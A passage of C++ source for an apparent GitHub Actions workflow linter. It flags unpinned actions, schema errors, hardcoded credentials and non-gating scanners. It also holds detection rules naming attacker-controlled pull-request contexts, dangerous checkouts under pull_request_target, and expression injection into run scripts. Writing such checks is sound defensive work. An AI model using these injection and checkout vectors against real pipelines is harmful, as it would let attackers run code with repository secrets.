             "container image '" + ref.image + "' is not pinned to a digest (@sha256:...)", u,
             Severity::kMedium, {}, job);
      return;
    }
    if (ref.kind != UsesRef::kRemote) return;
    const bool first = FirstParty(ref);
    sp_->action_refs++;
    if (!first) sp_->third_party_refs++;
    if (IsFullSha(ref.ref)) {
      sp_->pinned_action_refs++;
      if (!first) sp_->third_party_pinned++;
      return;
    }
    const bool short_sha = ShortSha(ref.ref);
    const bool tag_like = short_sha || MajorVersion(ref.ref).has_value();
    Severity sev = first ? Severity::kLow : (tag_like ? Severity::kMedium : Severity::kHigh);
    std::string what = short_sha ? "short commit SHA" : tag_like ? "tag" : "branch or tag";
    EmitAt("ci-action-unpinned", node,
           std::string(first ? "first-party action" : "third-party action") + " '" +
               ref.NameWithoutRef() + "' is pinned to " + what + " '" + ref.ref +
               "', not a commit SHA",
           u, sev, {}, job);
  }

  void Deprecation(const Node& node, const UsesRef& ref, const std::string& job) {
    if (ref.kind != UsesRef::kRemote) return;
    std::string name = ref.NameWithoutRef();
    std::optional<int> major = MajorVersion(ref.ref);
    if (!major && IsFullSha(ref.ref)) {
      // `@<sha> # v3.1.0`: read the version from the comment.
      std::string_view line = f_.Line(NodePos(node).line);
      size_t hash = line.find(" #");
      if (hash != std::string_view::npos) {
        std::string c = Trim(line.substr(hash + 2));
        major = MajorVersion(c);
      }
    }
    for (const ActionDeprecation& d : kDeprecations) {
      if (name != d.name) continue;
      if (d.below < 1000 && (!major || *major >= d.below)) continue;
      EmitAt("ci-action-deprecated", node,
             std::string(d.name) + (major && d.below < 1000 ? "@v" + std::to_string(*major) : "") +
                 ": " + std::string(d.why),
             name + "\n" + ref.ref, d.disabled ? Severity::kHigh : Severity::kMedium, {}, job);
    }
  }

  // ---- steps ----
  void Step(const Node& st, size_t index, const std::string& job_id, const Node& job,
            std::set<std::string>* step_ids, const std::set<std::string>* needs, bool job_coe,
            bool composite, Needs* job_needs, StepFacts* facts) {
    sp_->steps++;
    if (!IsMap(st)) {
      EmitAt("ci-schema-invalid", st, "a step must be a mapping", "step-shape", {}, {}, job_id);
      return;
    }
    UnknownKeys(st, kStepKeys, "a step", job_id);
    KeyValue uses = Get(st, "uses"), run = Get(st, "run"), id = Get(st, "id");
    const std::string name = Str(Val(st, "name"));
    std::string first_line;
    if (run && IsScalar(run.value)) {
      std::vector<ScriptLine> lines = LogicalLines(run.value.Scalar());
      if (!lines.empty()) first_line = Clip(lines.front().text, 50);
    }
    const std::string step_label = !Str(id.value).empty() ? Str(id.value)
                                   : !name.empty()        ? name
                                   : uses                 ? Str(uses.value)
                                   : !first_line.empty()  ? "run: " + first_line
                                                          : "#" + std::to_string(index + 1);
    if (uses && run)
      EmitAt("ci-schema-invalid", run.key, "a step cannot have both 'uses:' and 'run:'",
             "uses-and-run\n" + step_label, {}, {}, job_id);
    if (!uses && !run)
      EmitAt("ci-schema-invalid", st, "a step needs 'uses:' or 'run:'",
             "no-uses-run\n" + step_label, {}, {}, job_id);
    if (id) {
      std::string lid = Lower(Str(id.value));
      if (step_ids->count(lid))
        EmitAt("ci-duplicate-id", id.value,
               "step id '" + Str(id.value) + "' is used twice in job '" + job_id + "'",
               "step-id\n" + lid, {}, {}, job_id);
    }
    if (composite && run && !Get(st, "shell"))
      EmitAt("ci-schema-invalid", run.key, "composite action 'run' steps must set 'shell:'",
             "composite-shell\n" + step_label, {}, {}, job_id);

    ExprScope s;
    s.job = job_id;
    s.needs = needs;
    s.steps = step_ids;
    s.inputs = composite ? &action_inputs_ : &inputs_;
    s.allowed = composite ? (kCtxAll & ~(kCtxSecrets | kCtxNeeds | kCtxJobs))
                          : (kCtxAll & ~(kCtxSecrets | kCtxJobs));
    s.where = "a step's if:";
    KeyValue sif = Get(st, "if");
    if (sif) {
      auto tree = CheckCondition(sif.value, s, job_id);
      if (tree) BotCondition(*tree, sif.value, job_id);
    }
    s.allowed =
        composite ? (kCtxAll & ~(kCtxSecrets | kCtxNeeds | kCtxJobs)) : (kCtxAll & ~kCtxJobs);
    s.where = "a step";
    for (const auto& it : st) {
      std::string k = Str(it.first);
      if (k == "if") continue;
      CheckExprs(it.second, s);
    }
    Node env = Val(st, "env");
    CheckEnvMap(env, job_id);
    if (id) step_ids->insert(Lower(Str(id.value)));

    const bool coe = IsTrue(Val(st, "continue-on-error")) || job_coe;
    KeyValue coe_kv = Get(st, "continue-on-error");
    if (!coe_kv) coe_kv = Get(job, "continue-on-error");

    if (uses) {
      UsesStep(st, uses, job_id, job, step_label, coe, coe_kv, job_needs, facts);
    }
    if (run && IsScalar(run.value)) {
      RunStep(st, run, name, job_id, job, step_label, coe, coe_kv, composite, job_needs, facts);
    }
  }

  void UsesStep(const Node& st, const KeyValue& uses, const std::string& job_id, const Node& job,
                const std::string& step_label, bool coe, const KeyValue& coe_kv, Needs* job_needs,
                StepFacts* facts) {
    std::string u = Str(uses.value);
    UsesRef ref = ParseUses(u);
    if (ref.kind == UsesRef::kInvalid) {
      EmitAt("ci-uses-invalid", uses.value,
             "'" + u +
                 "' is not a valid action reference (owner/repo[/path]@ref, ./path or "
                 "docker://image)",
             u, {}, {}, job_id);
      job_needs->unknown = true;
      return;
    }
    Pinning(uses.value, ref, u, job_id);
    Deprecation(uses.value, ref, job_id);
    const std::string name = ref.NameWithoutRef();
    KeyValue with = Get(st, "with");

    if (ref.kind == UsesRef::kLocal) {
      job_needs->unknown = true;
      auto it = idx_.callables.find(ref.local);
      if (it != idx_.callables.end() && it->second.is_action) {
        CheckInputs(with, it->second, u, job_id, uses.key);
      } else if (idx_.has_workflows_dir &&
                 ref.local.find("/.github/workflows/") == std::string::npos &&
                 it == idx_.callables.end()) {
        EmitAt("ci-uses-invalid", uses.value,
               "local action '" + u + "' has no action.yml or action.yaml", u, {}, {}, job_id);
      } else if (it != idx_.callables.end() && !it->second.is_action) {
        EmitAt("ci-uses-invalid", uses.value,
               "'" + u +
                   "' is a workflow: call reusable workflows with a job-level 'uses:', not a "
                   "step",
               u, {}, {}, job_id);
      }
    } else if (ref.kind == UsesRef::kRemote) {
      // Token needs.
      bool known = false;
      for (const ActionNeed& a : kActionNeeds) {
        if (!StartsWith(name, a.prefix)) continue;
        known = true;
        job_needs->scopes |= a.scopes;
        break;
      }
      if (!known) job_needs->unknown = true;
      std::string with_text = with ? FlatText(with.value) : "";
      if (name == "docker/login-action" && with_text.find("ghcr.io") != std::string::npos)
        job_needs->scopes |= kScopePackages;
      if (name == "docker/build-push-action" && with_text.find("ghcr.io") != std::string::npos)
        job_needs->scopes |= kScopePackages;
      if (name == "aws-actions/configure-aws-credentials" &&
          with_text.find("role-to-assume") != std::string::npos &&
          with_text.find("aws-access-key-id") == std::string::npos)
        job_needs->scopes |= kScopeIdToken;
      if (name == "google-github-actions/auth" &&
          with_text.find("workload_identity_provider") != std::string::npos)
        job_needs->scopes |= kScopeIdToken;
      if (name == "azure/login" && with_text.find("creds") == std::string::npos)
        job_needs->scopes |= kScopeIdToken;
      if (name == "codecov/codecov-action" && with_text.find("use_oidc") != std::string::npos)
        job_needs->scopes |= kScopeIdToken;
      if (name == "actions/github-script") job_needs->unknown = true;
      if (name == "actions/checkout" &&
          with_text.find("persist-credentials false") == std::string::npos)
        job_needs->persisted_checkout = true;
    }

    // Injection through actions/github-script's script.
    if (name == "actions/github-script" && with) {
      Node script = Val(with.value, "script");
      if (IsScalar(script)) Injection(script, job_id, step_label, "actions/github-script script");
    }
    // Credentials handed to login actions.
    if (with && IsMap(with.value)) {
      KeyValue pw = Get(with.value, "password");
      if (pw && LiteralValue(pw.value) &&
          (name == "docker/login-action" || name.find("login") != std::string::npos)) {
        hardcoded_lines_.insert(NodePos(pw.value).line);
        EmitAt("ci-hardcoded-credential", pw.value,
               "with.password of " + name + " is a literal value, not a secret reference",
               "password\n" + name + "\n" + Sha256Hex(Str(pw.value)), Severity::kHigh,
               Confidence::kHigh, job_id);
      }
    }
    // Dangerous checkout.
    if (name == "actions/checkout" && with) CheckoutRef(with.value, job_id, job);

    // Scanners given as actions.
    if (auto sc = ScannerForAction(name)) {
      facts->scanner = true;
      facts->scanner_name = sc->name;
      facts->scanner_kind = sc->kind;
      Node w = with ? with.value : Node();
      std::optional<std::pair<Node, std::string>> neutered;
      if (coe) neutered = {{coe_kv.value, "continue-on-error: true"}};
      auto with_is = [&](std::string_view key,
                         std::initializer_list<std::string_view> vals) -> bool {
        KeyValue kv = Get(w, key);
        if (!kv) return false;
        std::string v = Lower(Trim(Str(kv.value)));
        for (std::string_view x : vals)
          if (v == x) {
            if (!neutered) neutered = {{kv.value, std::string(key) + ": " + Str(kv.value)}};
            return true;
          }
        return false;
      };
      with_is("exit-code", {"0"});
      with_is("fail-build", {"false"});
      with_is("soft_fail", {"true"});
      with_is("soft-fail", {"true"});
      with_is("ignore_on_exit", {"all", "results"});
      with_is("fail-on-severity", {"none"});
      with_is("fail_on_error", {"false"});
      with_is("continue-on-error", {"true"});
      KeyValue args = Get(w, "args");
      if (!neutered && args) {
        std::string a = Lower(Str(args.value));
        for (std::string_view flag :
             {"--exit-code 0", "--exit-code=0", "--soft-fail", "--exit-zero"})
          if (a.find(flag) != std::string::npos) neutered = {{args.value, std::string(flag)}};
      }
      if (neutered && sc->kind != ScannerKind::kCodeScanning) {
        facts->gating = false;
        EmitAt("ci-scanner-not-gating", neutered->first,
               sc->name + " (" + name + ") cannot fail the build: " + neutered->second,
               sc->name + "\n" + step_label, {}, {}, job_id);
      } else if (sc->kind == ScannerKind::kCodeScanning) {
        facts->gating = false;
      } else if (sc->name == "trivy") {
        KeyValue ec = Get(w, "exit-code");
        if (!ec) {
          facts->gating = false;
          bool sarif = Lower(Str(Val(w, "format"))) == "sarif";
          EmitAt(
              "ci-scanner-report-only", uses.value,
              std::string("trivy-action defaults to exit-code 0: findings never fail the build") +
                  (sarif ? " (results are only uploaded as SARIF)" : ""),
              "trivy\n" + step_label, {}, {}, job_id);
        }
      }
    }
  }

  void CheckoutRef(const Node& with, const std::string& job_id, const Node& job) {
    if (!(events_.count("pull_request_target") || events_.count("workflow_run") ||
          events_.count("issue_comment")))
      return;
    static constexpr std::string_view kHeadRefs[] = {
        "github.event.pull_request.head.sha",
        "github.event.pull_request.head.ref",
        "github.head_ref",
        "github.event.workflow_run.head_sha",
        "github.event.workflow_run.head_branch",
        "github.event.workflow_run.head_commit.id",
        "github.event.pull_request.merge_commit_sha",
        "github.event.pull_request.head.repo.full_name",
        "github.event.workflow_run.head_repository.full_name"};
    for (std::string_view key : {"ref", "repository"}) {
      KeyValue kv = Get(with, key);
      if (!kv || !IsScalar(kv.value)) continue;
      std::string v = Lower(kv.value.Scalar());
      bool head = v.find("refs/pull/") != std::string::npos;
      for (std::string_view h : kHeadRefs) head = head || v.find(h) != std::string::npos;
      if (!head) continue;
      DangerousCheckout(
          kv.value, NodePos(kv.value), job_id, job,
          "actions/checkout " + std::string(key) + ": " + Clip(kv.value.Scalar(), 80));
      return;
    }
  }

  void DangerousCheckout(const Node& node, Pos pos, const std::string& job_id, const Node& job,
                         const std::string& what) {
    std::string trig = events_.count("pull_request_target") ? "pull_request_target"
                       : events_.count("workflow_run")      ? "workflow_run"
                                                            : "issue_comment";
    // Graver with secrets or write permissions.
    bool secrets = UsesSecrets(JobText(job_id));
    KeyValue jp = Get(job, "permissions");
    std::optional<uint32_t> w = jp ? WriteScopes(jp) : WriteScopes(top_perms_);
    bool write = !w || *w != 0;  // absent = repository default, possibly write
    bool grave = secrets || write;
    std::string why = secrets && write ? "with secrets and a write token"
                      : secrets        ? "with secrets"
                      : write && w     ? "with a write token"
                      : write          ? "with the default (possibly write) token"
                                       : "(read-only token, no secrets)";
    Emit("ci-dangerous-checkout", pos,
         trig + " workflow checks out pull-request code (" + what + ")" +
             (grave ? " " + why +
                          ": building or running it executes attacker code with those "
                          "privileges"
                    : ": attacker code runs in the base repository's context (cache and artifact "
                      "poisoning) even with a read-only token"),
         "checkout\n" + what, grave ? Severity::kCritical : Severity::kHigh, {}, job_id);
    (void)node;
  }

  void RunStep(const Node& st, const KeyValue& run, const std::string& name,
               const std::string& job_id, const Node& job, const std::string& step_label, bool coe,
               const KeyValue& coe_kv, bool composite, Needs* job_needs, StepFacts* facts) {
    const Node& rn = run.value;
    const std::string& text = rn.Scalar();
    Needs rneeds = RunNeeds(text);
    job_needs->scopes |= rneeds.scopes;
    job_needs->unknown = job_needs->unknown || rneeds.unknown;
    job_needs->runs_git_or_scripts = job_needs->runs_git_or_scripts || rneeds.runs_git_or_scripts;

    // Placeholders.
    if (auto p = DetectPlaceholder(
            text, name, Str(Val(job, "name")).empty() ? job_id : Str(Val(job, "name")))) {
      sp_->placeholder_steps++;
      placeholder_steps_.insert(NodePos(st).line);
      std::string label = name.empty() ? "run step" : "step '" + name + "'";
      EmitAt("ci-placeholder-step", rn, label + " is a placeholder: " + p->why,
             "placeholder\n" + NormalizeRun(text), {},
             p->confidence_high ? Confidence::kHigh : Confidence::kMedium, job_id);
    }

    // Workflow commands.
    bool disabled = false;
    for (const ScriptHit& h : DeprecatedCommands(text, &disabled)) {
      bool off = h.what == "set-env" || h.what == "add-path";
      Emit("ci-deprecated-command", ScalarOffsetPos(f_, rn, text, h.offset, "::" + h.what),
           "::" + h.what + (off ? " is disabled: the step fails" : " is deprecated") +
               " (write to $GITHUB_" +
               (h.what == "set-output"   ? "OUTPUT"
                : h.what == "save-state" ? "STATE"
                : h.what == "set-env"    ? "ENV"
                                         : "PATH") +
               ")",
           h.what + "\n" + step_label, off ? Severity::kHigh : Severity::kMedium, {}, job_id);
    }

    Injection(rn, job_id, step_label, composite ? "a composite action's run" : "run");

    // Dangerous checkout by hand.
    if (events_.count("pull_request_target") || events_.count("workflow_run") ||
        events_.count("issue_comment")) {
      std::string low = Lower(text);
      size_t p = FindCommand(low, {"gh", "pr", "checkout"});
      if (p == std::string::npos) p = low.find("refs/pull/");
      if (p == std::string::npos && low.find("git ") != std::string::npos) {
        for (std::string_view h :
             {"github.event.pull_request.head.sha", "github.event.pull_request.head.ref",
              "github.head_ref", "github.event.workflow_run.head_sha",
              "github.event.workflow_run.head_branch"})
          if ((p = low.find(h)) != std::string::npos) break;
      }
      if (p != std::string::npos)
        DangerousCheckout(
            rn, ScalarOffsetPos(f_, rn, text, p, std::string_view(text).substr(p, 12)), job_id, job,
            "run: " + Clip(std::string_view(text).substr(p, text.find('\n', p) - p), 60));
    }

    // Scanners.
    for (const ScannerHit& h : ScannersInRun(text)) {
      facts->scanner = true;
      facts->scanner_name = h.name;
      facts->scanner_kind = h.kind;
      std::optional<std::pair<Pos, std::string>> neutered;
      if (coe)
        neutered = {{NodePos(coe_kv.value), "continue-on-error: true"}};
      else if (auto n = NeuteredScannerRun(text, h))
        neutered = {{ScalarOffsetPos(f_, rn, text, n->offset,
                                     std::string_view(text).substr(
                                         n->offset, std::min<size_t>(8, text.size() - n->offset))),
                     n->what}};
      if (neutered) {
        facts->gating = false;
        Emit("ci-scanner-not-gating", neutered->first,
             h.name + " cannot fail the build: " + neutered->second, h.name + "\n" + step_label, {},
             {}, job_id);
      } else if (h.kind == ScannerKind::kScan && ReportOnlyByDefault(text, h)) {
        facts->gating = false;
        Emit("ci-scanner-report-only",
             ScalarOffsetPos(f_, rn, text, h.offset,
                             std::string_view(text).substr(h.offset, h.name.size())),
             h.name + " exits 0 when it finds problems unless told otherwise (" +
                 (h.name == "trivy"        ? "--exit-code 1"
                  : h.name == "grype"      ? "--fail-on high"
                  : h.name == "semgrep"    ? "--error, or semgrep ci"
                  : h.name == "trufflehog" ? "--fail"
                                           : "--failOnCVSS 7") +
                 ")",
             h.name + "\n" + step_label, {}, {}, job_id);
      }
      break;  // one scanner per step for metrics and findings
    }

    // Tests: retries and ignored failures.
    bool is_test = false;
    for (const ScriptLine& l : LogicalLines(text))
      for (const ScriptCommand& c : SplitCommands(l.text))
        is_test = is_test || IsTestCommand(c.text);
    if (is_test && !facts->scanner) {
      if (auto r = DetectRetry(text)) {
        Emit("ci-retry-masks-flaky",
             ScalarOffsetPos(f_, rn, text, r->offset,
                             std::string_view(text).substr(
                                 r->offset, std::min<size_t>(10, text.size() - r->offset))),
             r->what, "retry\n" + step_label, {}, {}, job_id);
      }
      if (coe) {
        EmitAt("ci-test-failure-ignored", coe_kv.value,
               "test step (" + step_label + ") has continue-on-error: true", "coe\n" + step_label,
               {}, {}, job_id);
      } else if (auto ig = DetectIgnoredFailure(text, 0, std::string_view::npos)) {
        Emit("ci-test-failure-ignored",
             ScalarOffsetPos(f_, rn, text, ig->offset,
                             std::string_view(text).substr(
                                 ig->offset, std::min<size_t>(6, text.size() - ig->offset))),
             "test failures are ignored: " + ig->what, "ignored\n" + step_label, {}, {}, job_id);
      }
    }

    // Auto-merge of Dependabot PRs.
    std::string low = Lower(text);
    size_t merge = FindCommand(low, {"gh", "pr", "merge"});
    if (merge != std::string::npos)
      AutoMerge(ScalarOffsetPos(f_, rn, text, merge, std::string_view(text).substr(merge, 11)), job,
                job_id, st);
  }

  void AutoMerge(Pos pos, const Node& job, const std::string& job_id, const Node& st) {
    std::string job_text = job_id.empty() ? FlatText(job) : JobText(job_id);
    bool dependabot = job_text.find("dependabot") != std::string::npos ||
                      Lower(f_.path).find("dependabot") != std::string::npos;
    if (!dependabot) return;
    bool gated = job_text.find("semver-patch") != std::string::npos ||
                 job_text.find("semver-minor") != std::string::npos ||
                 (job_text.find("semver-major") != std::string::npos &&
                  job_text.find("!= 'version-update:semver-major'") != std::string::npos) ||
                 (job_text.find("semver-major") != std::string::npos &&
                  job_text.find("!=") != std::string::npos);
    if (gated) return;
    (void)st;
    Emit("ci-dependabot-automerge-major", pos,
         "Dependabot pull requests are merged automatically without excluding major (semver-major) "
         "updates",
         "automerge", {}, {}, job_id);
  }

  // Untrusted contexts interpolated into a script.
  void Injection(const Node& n, const std::string& job_id, const std::string& step_label,
                 std::string_view where) {
    const std::string& s = n.Scalar();
    if (s.find("${{") == std::string::npos) return;
    for (const ExprSpan& span : FindExpressions(s)) {
      if (!span.closed) continue;
      std::string_view text =
          std::string_view(s).substr(span.inner_begin, span.inner_end - span.inner_begin);
      auto tree = ParseExpression(text);
      if (!tree.ok()) continue;
      for (const ContextRef& r : ContextRefs(*tree)) {
        if (!r.reaches_output || r.path.empty()) continue;
        std::optional<std::string_view> pat = UntrustedPattern(r.path, false);
        bool object = false;
        if (!pat) {
          pat = UntrustedPattern(r.path, true);
          object = pat.has_value();
        }
        std::string expr_text(text.substr(r.begin, r.end - r.begin));
        Pos pos = ScalarOffsetPos(f_, n, s, span.inner_begin + r.begin, expr_text);
        if (pat) {
          const bool grave = privileged_;
          std::string trig;
          for (const auto& e : events_)
            if (PrivilegedEvent(e)) trig = e;
          Emit("ci-expression-injection", pos,
               "'" + JoinPath(r.path) + "' " +
                   (object ? "(an object containing " + std::string(*pat) + ") " : "") +
                   "is attacker-controlled and is expanded into " + std::string(where) +
                   (grave ? " under the privileged '" + trig + "' trigger" : ""),
               "inject\n" + step_label + "\n" + JoinPath(r.path),
               grave ? Severity::kCritical : Severity::kHigh,
               object && !r.whole_object ? Confidence::kMedium : Confidence::kHigh, job_id);
          continue;
        }
        const auto& p = r.path;
        bool templ = p[0] == "inputs" ||
                     (p.size() >= 3 && p[0] == "github" && p[1] == "event" && p[2] == "inputs") ||
                     (p.size() >= 3 && (p[0] == "steps" || p[0] == "needs") && p[2] == "outputs");
        if (templ)
          Emit("ci-template-in-run", pos,
               "'" + JoinPath(r.path) + "' is expanded into " + std::string(where) +
                   "; pass it through env: instead",
               "template\n" + step_label + "\n" + JoinPath(r.path), {}, {}, job_id);
      }
    }
  }

  void BotCondition(const ExprTree& tree, const Node& n, const std::string& job_id) {
    for (size_t i = 0; i < tree.nodes.size(); ++i) {
      const ExprNode& e = tree.nodes[i];
      int ctx = -1, lit = -1;
      if (e.kind == ExprKind::kBinary &&
          (e.op == ExprTokenKind::kEq || e.op == ExprTokenKind::kNe)) {
        ctx = e.lhs;
        lit = e.rhs;
        if (tree.nodes[static_cast<size_t>(ctx)].kind == ExprKind::kString) std::swap(ctx, lit);
      } else if (e.kind == ExprKind::kCall && e.num_args == 2) {
        std::string f = Lower(e.value);
        if (f != "contains" && f != "startswith" && f != "endswith") continue;
        ctx = tree.args[static_cast<size_t>(e.first_arg)];
        lit = tree.args[static_cast<size_t>(e.first_arg + 1)];
      } else {
        continue;
      }
      const ExprNode& l = tree.nodes[static_cast<size_t>(lit)];
      if (l.kind != ExprKind::kString) continue;
      std::string v = Lower(l.value);
      if (v.find("[bot]") == std::string::npos && v != "dependabot" && v != "renovate") continue;
      auto path = ChainPath(tree, ctx);
      if (!path) continue;
      std::string p = JoinPath(*path);
      if (p != "github.actor" && p != "github.triggering_actor" && p != "github.event.sender.login")
        continue;
      const bool grave = privileged_;
      std::string source(tree.text.substr(
          tree.nodes[static_cast<size_t>(ctx)].begin,
          tree.nodes[static_cast<size_t>(ctx)].end - tree.nodes[static_cast<size_t>(ctx)].begin));
      const std::string& s = n.Scalar();
      size_t off = s.find(source);
      Pos pos = off == std::string::npos ? NodePos(n) : ScalarOffsetPos(f_, n, s, off, source);
      Emit("ci-bot-condition-spoofable", pos,
           "'" + p + "' compared with '" + l.value +
               "' identifies who triggered the run, not who wrote the code; use "
               "github.event.pull_request.user.login",
           "bot\n" + p + "\n" + v, grave ? Severity::kHigh : Severity::kMedium, {}, job_id);
    }
  }

  // ---- workflow-wide relations ----
  void NeedsGraph(const Node& jobs) {
    // Job ids in needs: compare case-insensitively, as GitHub does.
    std::map<std::string, std::vector<std::string>> edges;
    std::map<std::string, Node> needs_key;
    std::set<std::string> ids;
    for (const std::string& id : job_ids_) ids.insert(Lower(id));
    for (const auto& it : jobs) {
      std::string id = Lower(Str(it.first));
      KeyValue needs = Get(it.second, "needs");
      if (!needs) continue;
      needs_key[id] = needs.key;
      std::vector<Node> list;
      if (IsScalar(needs.value)) list.push_back(needs.value);
      if (IsSeq(needs.value))
        for (const auto& n : needs.value) list.push_back(n);
      for (const auto& n : list) {
        std::string dep = Str(n);
        if (dep.find("${{") != std::string::npos) continue;
        if (!ids.count(Lower(dep))) {
          EmitAt("ci-needs-unknown", n,
                 "job '" + Str(it.first) + "' needs unknown job '" + dep + "'", "needs\n" + dep, {},
                 {}, Str(it.first));
          continue;
        }
        if (Lower(dep) == id) {
          EmitAt("ci-needs-cycle", n, "job '" + Str(it.first) + "' needs itself", "self\n" + id, {},
                 {}, Str(it.first));
          continue;
        }
        edges[id].push_back(Lower(dep));
      }
    }
    // Cycle detection: iterative DFS with colors.
    std::map<std::string, int> color;
    std::set<std::string> reported;
    for (const auto& [start, _] : edges) {
      if (color[start]) continue;
      std::vector<std::pair<std::string, size_t>> stack{{start, 0}};
      color[start] = 1;
      while (!stack.empty()) {
        auto& [node, i] = stack.back();
        auto& out = edges[node];
        if (i < out.size()) {
          std::string next = out[i++];
          if (color[next] == 1) {
            // Cycle: the stack from `next` to the top.
            std::vector<std::string> cycle;
            bool in = false;
            for (const auto& [n, _i] : stack) {
              if (n == next) in = true;
              if (in) cycle.push_back(n);
            }
            std::vector<std::string> sorted = cycle;
            std::sort(sorted.begin(), sorted.end());
            std::string key = JoinPath(sorted);
            if (reported.insert(key).second) {
              std::string desc;
              for (const auto& c : cycle) desc += c + " → ";
              desc += next;
              const std::string& anchor = sorted.front();
              EmitAt("ci-needs-cycle", needs_key[anchor],
                     "jobs depend on each other in a cycle: " + desc, "cycle\n" + key, {}, {},
                     anchor);
            }
          } else if (color[next] == 0) {
            color[next] = 1;
            stack.push_back({next, 0});
          }
        } else {
          color[node] = 2;
          stack.pop_back();
        }
      }
    }
  }

  void Permissions(const Node& jobs) {
    // Missing: no top-level block and some job without its own.
    if (!top_perms_) {
      std::vector<std::string> bare;
      for (const JobInfo& j : jobs_)
        if (!j.perms) bare.push_back(j.id);
      if (!bare.empty()) {
        const bool only_call = events_.size() == 1 && events_.count("workflow_call");
        std::string list;
        for (size_t i = 0; i < bare.size() && i < 5; ++i) list += (i ? ", " : "") + bare[i];
        if (bare.size() > 5) list += ", ...";
        Emit("ci-permissions-missing", RootPos(),
             "no top-level 'permissions:' and job" + std::string(bare.size() > 1 ? "s " : " ") +
                 list + " set none: the token gets the repository default" +
                 (only_call ? " (capped by the caller)" : ""),
             "missing", only_call ? Severity::kLow : Severity::kMedium, {});
      }
    }
    // Excessive write scopes.
    auto check_block = [&](const KeyValue& p, const std::vector<const JobInfo*>& governed,
                           bool top) {
      if (!p || !IsMap(p.value) || governed.empty()) return;
      for (const auto& it : p.value) {
        if (Str(it.second) != "write") continue;
        std::string scope = Str(it.first);
        uint32_t bit = ScopeBit(scope);
        if (!bit) continue;
        bool unknown = false;
        std::vector<std::string> users;
        for (const JobInfo* j : governed) {
          if (j->needs.unknown) unknown = true;
          if (bit == kScopeContents && j->needs.persisted_checkout && j->needs.runs_git_or_scripts)
            unknown = true;
          if (j->needs.scopes & bit) users.push_back(j->id);
        }
        if (unknown) continue;
        if (users.empty()) {
          EmitAt("ci-permissions-excessive", it.first,
                 scope + ": write is granted but no step in " +
                     (top ? "the workflow's jobs" : "job '" + governed.front()->id + "'") +
                     " uses it",
                 "unused\n" + scope + "\n" + (top ? "" : governed.front()->id), {}, {},
                 top ? "" : governed.front()->id);
        } else if (top && users.size() < governed.size() && governed.size() > 1) {
          std::string list;
          for (size_t i = 0; i < users.size(); ++i) list += (i ? ", " : "") + users[i];
          EmitAt("ci-permissions-excessive", it.first,
                 scope + ": write is granted to all " + std::to_string(governed.size()) +
                     " jobs but only " + list + " need" + (users.size() == 1 ? "s" : "") +
                     " it: move it to job level",
                 "broad\n" + scope, Severity::kLow, Confidence::kMedium);
        }
      }
    };
    std::vector<const JobInfo*> top_governed;
    for (const JobInfo& j : jobs_) {
      if (j.perms)
        check_block(j.perms, {&j}, false);
      else
        top_governed.push_back(&j);
    }
    check_block(top_perms_, top_governed, true);
    (void)jobs;
  }

  void Concurrency(const Node& jobs) {
    if (!pr_) return;
    (void)jobs;
    bool ok = false;
    const Node& c = top_concurrency_;
    if (IsMap(c)) {
      KeyValue cip = Get(c, "cancel-in-progress");
      ok = cip && Str(cip.value) != "false";
      if (!ok) {
        sp_->pr_workflows_without_concurrency++;
        EmitAt("ci-concurrency-missing", Get(f_.root, "concurrency").key,
               "concurrency is set without cancel-in-progress: superseded pull-request runs keep "
               "running",
               "no-cancel");
        return;
      }
    }
    if (IsScalar(c)) ok = false;  // a group string queues runs but never cancels them
    if (!ok && !jobs_.empty()) {
      ok = true;
      for (const JobInfo& j : jobs_) ok = ok && j.has_concurrency_cancel;
    }
    if (ok) return;
    sp_->pr_workflows_without_concurrency++;
    std::string e = events_.count("pull_request") ? "pull_request" : "pull_request_target";
    EmitAt("ci-concurrency-missing", event_nodes_[e],
           "runs on every " + e +
               " update without 'concurrency:' and 'cancel-in-progress: true': superseded runs "
               "keep using runners",
           "missing");
  }

  // ---- actions ----
  void Action() {
    const Node& root = f_.root;
    sp_->actions++;
    sp_->lines += f_.line_starts.size();
    UnknownKeys(root, kActionKeys, "action metadata");
    Node ins = Val(root, "inputs");
    if (IsMap(ins))
      for (const auto& it : ins) action_inputs_.insert(Lower(Str(it.first)));
    KeyValue runs = Get(root, "runs");
    if (!runs || !IsMap(runs.value)) {
      Emit("ci-schema-invalid", runs ? NodePos(runs.key) : RootPos(),
           "action metadata has no 'runs:' mapping", "no-runs", {}, {});
      return;
    }
    KeyValue using_kv = Get(runs.value, "using");
    std::string using_v = Lower(Str(using_kv.value));
    if (!using_kv) {
      EmitAt("ci-schema-invalid", runs.key, "'runs:' has no 'using:'", "no-using");
      return;
    }
    if (using_v == "node12" || using_v == "node16") {
      EmitAt("ci-action-deprecated", using_kv.value,
             "the action runs on " + using_v + ", a Node.js runtime GitHub no longer supports",
             using_v, Severity::kHigh);
    } else if (using_v == "docker") {
      std::string image = Str(Val(runs.value, "image"));
      if (StartsWith(image, "docker://")) {
        UsesRef r = ParseUses(image);
        Pinning(Val(runs.value, "image"), r, image, "");
      }
    } else if (using_v == "composite") {
      sp_->composite_actions++;
      Node steps = Val(runs.value, "steps");
      if (!IsSeq(steps)) {
        EmitAt("ci-schema-invalid", runs.key, "composite action without 'steps:'", "no-steps");
        return;
      }
      std::set<std::string> ids;
      Needs needs;
      size_t i = 0;
      for (const auto& st : steps) {
        StepFacts sf;
        Step(st, i++, "", Node(), &ids, nullptr, false, true, &needs, &sf);
        RecordScanner(sf);
      }
      return;
    } else if (!StartsWith(using_v, "node")) {
      EmitAt("ci-schema-invalid", using_kv.value,
             "unknown 'using: " + using_v + "' (composite, docker, node20, node24)",
             "using\n" + using_v);
    }
  }

  // ---- dependabot ----
  void Dependabot() {
    const Node& root = f_.root;
    UnknownKeys(root, kDependabotKeys, "dependabot.yml");
    KeyValue version = Get(root, "version");
    if (!version || Str(version.value) != "2")
      Emit("ci-schema-invalid", version ? NodePos(version.value) : RootPos(),
           "dependabot.yml must declare 'version: 2'", "version", {}, {});
    KeyValue updates = Get(root, "updates");
    if (!updates || !IsSeq(updates.value)) {
      Emit("ci-schema-invalid", updates ? NodePos(updates.key) : RootPos(),
           "dependabot.yml has no 'updates:' list", "updates", {}, {});
      return;
    }
    bool actions = false;
    for (const auto& u : updates.value) {
      if (!IsMap(u)) continue;
      UnknownKeys(u, kDependabotUpdateKeys, "a Dependabot update entry");
      KeyValue eco = Get(u, "package-ecosystem");
      std::string e = Str(eco.value);
      std::string dir = Str(Val(u, "directory"));
      if (dir.empty()) dir = Clip(FlatText(Val(u, "directories")), 60);
      if (e == "github-actions") actions = true;
      Node anchor = eco ? eco.value : Node(u);
      std::string label = e + " (" + dir + ")";
